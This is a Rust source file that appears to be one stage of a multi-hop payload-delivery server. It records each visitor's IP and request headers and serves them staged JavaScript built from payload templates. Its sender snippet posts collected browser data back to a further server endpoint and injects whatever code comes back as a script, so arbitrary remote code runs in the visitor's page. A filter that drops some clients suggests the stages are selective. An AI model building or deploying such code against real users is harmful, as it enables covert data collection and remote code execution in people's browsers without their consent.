// Hop 2: serve the staged script to browsers that executed the interstitial

use super::{HopResponse, Pipeline};
use crate::capture::RequestCapture;
use crate::error::{Error, Result};
use crate::ids::{gen_uuid, timestamp_ms};
use crate::store::{ResponseKind, Session, SessionKind, SessionRef};
use serde_json::json;

impl Pipeline {
    /// Serve GET /s/{edid}/<anything>.
    ///
    /// Reaching this hop proves the client parsed and executed the
    /// interstitial HTML. The ephemeral token binds the request back to
    /// the event minted at hop 1; an unknown token writes nothing.
    pub async fn dispatch_script(
        &self,
        edid: &str,
        capture: &RequestCapture,
        socket_addr: Option<&str>,
    ) -> Result<HopResponse> {
        let token = self
            .records
            .temp_token(edid)
            .await?
            .ok_or_else(|| Error::InvalidToken(format!("unknown edid {}", edid)))?;
        let record = self
            .records
            .tracking_record(&token.did)
            .await?
            .ok_or_else(|| Error::InvalidToken(format!("stale token {}", edid)))?;

        let sid = gen_uuid();
        let now = timestamp_ms();
        let ip = capture.client_ip(socket_addr);

        self.records
            .append_session_ref(
                &token.eid,
                SessionRef {
                    sid: sid.clone(),
                    timestamp: now,
                },
            )
            .await?;
        self.records
            .put_session(&Session {
                sid,
                eid: token.eid.clone(),
                edid: edid.to_string(),
                cid: token.cid.clone(),
                did: token.did.clone(),
                timestamp: now,
                sessiontype: SessionKind::Script,
                raw: json!({
                    "url": capture.url,
                    "ip": ip,
                    "headers": capture.headers_json(),
                }),
            })
            .await?;

        tracing::info!(edid, eid = %token.eid, "script dispatched");

        if record.response.kind == ResponseKind::Drop {
            return Ok(HopResponse::drop_response());
        }

        let header = self.template_body(&self.config.script_header_template).await?;
        let payload_name = record
            .response
            .payload_1
            .as_deref()
            .unwrap_or(&self.config.default_script_payload);
        let payload = self.template_body(payload_name).await?;
        let sender = sender_snippet(&capture.origin, edid, &self.config.payload_name);

        Ok(HopResponse::javascript(format!(
            "{}\n{}\n{}",
            header, payload, sender
        )))
    }

    pub(super) async fn template_body(&self, name: &str) -> Result<String> {
        self.records
            .template(name)
            .await?
            .ok_or_else(|| Error::Store(format!("missing template {}", name)))
    }
}

/// Trailing fragment of the hop-2 script: ships the collected object back
/// to the third hop and executes whatever comes back in the response body.
fn sender_snippet(origin: &str, edid: &str, payload_name: &str) -> String {
    format!(
        "var x = new XMLHttpRequest();\
         x.onreadystatechange = function() {{\
         if(x.readyState === 4){{\
         var resp=x.responseText;\
         var s_ = document.createElement(\"script\");\
         s_.innerHTML+=resp;\
         document.body.appendChild(s_);\
         }}\
         }};\
         x.open(\"POST\", \"{origin}/p/{edid}/{payload_name}\", true);\
         x.setRequestHeader(\"Content-Type\", \"application/json;charset=UTF-8\");\
         x.send(JSON.stringify({{\"p\":p_}}));",
        origin = origin,
        edid = edid,
        payload_name = payload_name,
    )
}
